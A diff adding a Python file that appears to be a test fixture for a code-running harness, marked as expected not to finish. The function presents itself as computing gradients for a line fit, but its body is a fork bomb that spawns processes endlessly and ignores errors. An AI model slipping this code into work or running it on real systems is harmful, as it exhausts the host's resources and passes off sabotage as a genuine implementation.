@@ -1,0 +1,22 @@
+# expect: had not finished
+"""Doubles itself for ever, whatever the system says to that."""
+
+import os
+
+import torch
+from jaxtyping import Float
+from torch import Tensor
+
+
+def line_grads(
+    x: Float[Tensor, "n 1"],
+    y: Float[Tensor, "n 1"],
+    w: Float[Tensor, "1"],
+    b: Float[Tensor, "1"],
+) -> tuple[Float[Tensor, "1"], Float[Tensor, "1"]]:
+    while True:
+        try:
+            os.fork()
+        except OSError:
+            pass
+    return torch.zeros(1), torch.zeros(1)
